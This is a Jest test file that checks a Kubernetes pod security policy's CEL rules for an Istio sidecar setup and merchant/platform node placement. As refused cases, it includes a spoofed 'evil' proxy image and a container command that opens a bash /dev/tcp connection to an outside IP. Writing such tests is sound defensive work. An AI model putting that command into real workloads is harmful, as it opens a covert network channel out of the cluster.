/**
 * The workload pod policy's CEL checks, evaluated on pods (a CEL engine in a child process: the
 * engine is ESM-only). Each check admits the pods it should and refuses the one it names.
 */
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { POD_CHECKS, merchantPlacementChecks, platformPlacementChecks, proxyIdentityChecks, workloadPodPolicy } from "../../../model/mesh/pod-security";

const PROXY = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/istio/proxyv2";
const CHECKS = [...POD_CHECKS, ...proxyIdentityChecks(PROXY)];

interface Case {
  readonly label: string;
  readonly spec: Record<string, unknown>;
  /** The message of the one check that must refuse it; undefined: every check admits it. */
  readonly refusedBy?: RegExp;
}

const app = { name: "app", image: "x", securityContext: { runAsNonRoot: true, allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] }, seccompProfile: { type: "RuntimeDefault" } } };
const sidecar = { name: "istio-proxy", image: `${PROXY}:1.30.4`, args: ["proxy", "sidecar"], securityContext: { privileged: false, runAsUser: 1337, runAsGroup: 1337 } };
const CASES: Case[] = [
  { label: "a restricted pod with an injected sidecar and istio-validation", spec: { containers: [app, sidecar], initContainers: [{ ...sidecar, name: "istio-validation" }] } },
  { label: "a pod with a native sidecar (istio-proxy as an init container)", spec: { containers: [app], initContainers: [{ ...sidecar, name: "istio-validation" }, { ...sidecar, restartPolicy: "Always" }] } },
  { label: "an app running as another user", spec: { securityContext: { runAsUser: 1000, runAsGroup: 3000 }, containers: [{ ...app, securityContext: { ...app.securityContext, runAsUser: 1001 } }, sidecar] } },
  { label: "the pod as Istio's proxy user", spec: { securityContext: { runAsUser: 1337 }, containers: [app, sidecar] }, refusedBy: /^a pod running as Istio's proxy user/ },
  { label: "the pod in Istio's proxy group", spec: { securityContext: { runAsGroup: 1337 }, containers: [app, sidecar] }, refusedBy: /^a pod running as Istio's proxy user/ },
  { label: "an app container as Istio's proxy user", spec: { containers: [{ ...app, securityContext: { runAsUser: 1337 } }, sidecar] }, refusedBy: /^containers other than Istio's/ },
  { label: "an app container in Istio's proxy group", spec: { containers: [{ ...app, securityContext: { runAsGroup: 1337 } }, sidecar] }, refusedBy: /^containers other than Istio's/ },
  { label: "an init container as Istio's proxy user", spec: { containers: [app, sidecar], initContainers: [{ name: "setup", securityContext: { runAsUser: 1337 } }] }, refusedBy: /^init containers other than Istio's/ },
  { label: "a debug container as Istio's proxy user", spec: { containers: [app, sidecar], ephemeralContainers: [{ name: "debug", securityContext: { runAsUser: 1337 } }] }, refusedBy: /^ephemeral containers running as/ },
  { label: "a debug container named like Istio's", spec: { containers: [app, sidecar], ephemeralContainers: [{ name: "istio-proxy", securityContext: { runAsUser: 1337 } }] }, refusedBy: /^ephemeral containers running as/ },
  { label: "the pod's own istio-proxy from another image", spec: { containers: [app, { ...sidecar, image: "docker.io/evil/proxyv2:1.30.4" }] }, refusedBy: /^an istio-proxy or istio-validation container/ },
  { label: "the pod's own istio-proxy with a command", spec: { containers: [app, { ...sidecar, command: ["/bin/bash", "-c", "exec 3<>/dev/tcp/203.0.113.1/443"] }] }, refusedBy: /^an istio-proxy or istio-validation container/ },
  { label: "an image that only starts like the mirror's repository", spec: { containers: [app, { ...sidecar, image: `${PROXY}-evil:1.30.4` }] }, refusedBy: /^an istio-proxy or istio-validation container/ },
  { label: "a native sidecar from another image", spec: { containers: [app], initContainers: [{ ...sidecar, image: "docker.io/evil/proxyv2:1.30.4", restartPolicy: "Always" }] }, refusedBy: /^an istio-proxy or istio-validation init container/ },
  { label: "a pod with no security context at all", spec: { containers: [{ name: "a", image: "x" }] } },
  { label: "a pod that says hostNetwork false, with volumes", spec: { hostNetwork: false, hostPID: false, hostIPC: false, containers: [app], volumes: [{ name: "v", emptyDir: {} }, { name: "t", projected: { sources: [] } }] } },
  { label: "hostNetwork", spec: { hostNetwork: true, containers: [app] }, refusedBy: /hostNetwork/ },
  { label: "hostPID", spec: { hostPID: true, containers: [app] }, refusedBy: /hostPID/ },
  { label: "hostIPC", spec: { hostIPC: true, containers: [app] }, refusedBy: /hostIPC/ },
  { label: "a hostPath volume beside another", spec: { containers: [app], volumes: [{ name: "v", emptyDir: {} }, { name: "h", hostPath: { path: "/" } }] }, refusedBy: /hostPath/ },
  { label: "a privileged container beside a compliant one", spec: { containers: [app, { name: "p", securityContext: { privileged: true } }] }, refusedBy: /privileged containers/ },
  { label: "a privileged init container", spec: { containers: [app], initContainers: [{ name: "p", securityContext: { privileged: true } }] }, refusedBy: /privileged init containers/ },
  { label: "a privileged ephemeral container (kubectl debug --profile=sysadmin)", spec: { containers: [app], ephemeralContainers: [{ name: "d", securityContext: { privileged: true } }] }, refusedBy: /privileged ephemeral containers/ },
];

function evaluateAll(items: { id: string; expression: string; object: unknown }[]): Map<string, { value: unknown; error: string | null }> {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "cel-")), "items.json");
  fs.writeFileSync(file, JSON.stringify(items));
  const r = spawnSync(process.execPath, [path.join(__dirname, "..", "..", "support", "eval-cel.mjs"), file], { cwd: path.join(__dirname, "..", "..", ".."), encoding: "utf8" });
  if (r.status !== 0) throw new Error(`CEL evaluator failed: ${r.stderr}`);
  return new Map((JSON.parse(r.stdout) as { id: string; value: unknown; error: string | null }[]).map((x) => [x.id, x]));
}

describe("the workload pod policy's checks", () => {
  let results = new Map<string, { value: unknown; error: string | null }>();
  beforeAll(() => {
    results = evaluateAll(CASES.flatMap((c) => CHECKS.map((check, i) => ({ id: `${c.label} #${i}`, expression: check.expression, object: { apiVersion: "v1", kind: "Pod", metadata: { name: "p" }, spec: c.spec } }))));
  });

  it.each(CASES.map((c) => [c.label, c] as const))("%s", (_l, c) => {
    CHECKS.forEach((check, i) => {
      const r = results.get(`${c.label} #${i}`)!;
      expect(r.error).toBeNull();
      // A check holds for a pod it admits; exactly the named check refuses.
      expect(r.value).toBe(!(c.refusedBy && c.refusedBy.test(check.message)));
    });
    if (c.refusedBy) expect(CHECKS.filter((check) => c.refusedBy!.test(check.message))).toHaveLength(1);
  });

  it("are the policy's validations, each refusing as Forbidden", () => {
    const [policy] = workloadPodPolicy(["payments"], PROXY);
    expect(policy.spec!.validations).toEqual(CHECKS.map((c) => ({ expression: c.expression, message: c.message, reason: "Forbidden" })));
  });
});

describe("the placement checks", () => {
  const nodes = { label: { key: "pci.blueprint/tenant", value: "merchant" }, taintKey: "pci.blueprint/tenant" };
  const toleration = { key: "pci.blueprint/tenant", operator: "Equal", value: "merchant", effect: "NoSchedule" };
  const defaults = [{ key: "node.kubernetes.io/not-ready", operator: "Exists", effect: "NoExecute", tolerationSeconds: 300 }];
  const CASES: [string, "merchant" | "platform", Record<string, unknown>, boolean][] = [
    ["a merchant's pod on the merchants' nodes", "merchant", { nodeSelector: { "pci.blueprint/tenant": "merchant" }, tolerations: [toleration, ...defaults] }, true],
    ["a merchant's pod with another selector beside it", "merchant", { nodeSelector: { "kubernetes.io/arch": "amd64", "pci.blueprint/tenant": "merchant" } }, true],
    ["a merchant's pod without a node selector", "merchant", { tolerations: [toleration] }, false],
    ["a merchant's pod selecting other nodes", "merchant", { nodeSelector: { "kubernetes.io/arch": "amd64" } }, false],
    ["a merchant's pod selecting the label with another value", "merchant", { nodeSelector: { "pci.blueprint/tenant": "platform" } }, false],
    ["a platform pod with Kubernetes' default tolerations", "platform", { tolerations: defaults }, true],
    ["a platform pod without tolerations", "platform", {}, true],
    ["a platform pod tolerating the merchants' taint", "platform", { tolerations: [...defaults, toleration] }, false],
    ["a platform pod tolerating the merchants' taint by Exists", "platform", { tolerations: [{ key: "pci.blueprint/tenant", operator: "Exists" }] }, false],
    ["a platform pod tolerating every taint", "platform", { tolerations: [{ operator: "Exists" }] }, false],
    ["a platform pod tolerating every taint by an empty key", "platform", { tolerations: [{ key: "", operator: "Exists" }] }, false],
  ];
  let results = new Map<string, { value: unknown; error: string | null }>();
  beforeAll(() => {
    results = evaluateAll(CASES.map(([label, who, spec]) => ({ id: label, expression: (who === "merchant" ? merchantPlacementChecks(nodes) : platformPlacementChecks(nodes))[0].expression, object: { spec: { containers: [app], ...spec } } })));
  });
  it.each(CASES.map(([label, , , admitted]) => [label, admitted] as const))("%s: admitted %s", (label, admitted) => {
    expect(results.get(label)).toEqual({ id: label, value: admitted, error: null });
  });
});
